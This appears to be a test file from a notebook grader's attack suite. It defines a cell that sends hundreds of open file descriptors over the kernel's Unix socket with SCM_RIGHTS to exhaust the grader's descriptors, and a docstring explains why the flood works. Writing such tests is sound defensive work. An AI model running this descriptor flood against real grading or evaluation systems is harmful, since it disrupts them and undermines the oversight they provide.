"""The notebook sends open files over the kernel's socket, two hundred at a time, again and again.

Files that travel over a Unix socket are installed in the receiver, and a receiver that ignores them runs out of
descriptors. Here the grader reads bytes alone, which drops what travels with them.
"""

from tests.grading.attacks import FRAME, Attack, answers, inside

CELL = FRAME + inside("""
    import array, socket

    link = socket.socket(fileno=os.dup(3))
    files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
    for _ in range(300):
        try:
            link.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)], socket.MSG_DONTWAIT)
        except OSError:
            break
""")
ATTACK = Attack(cells=answers(), extra=[("week1-log_softmax-check", CELL)])
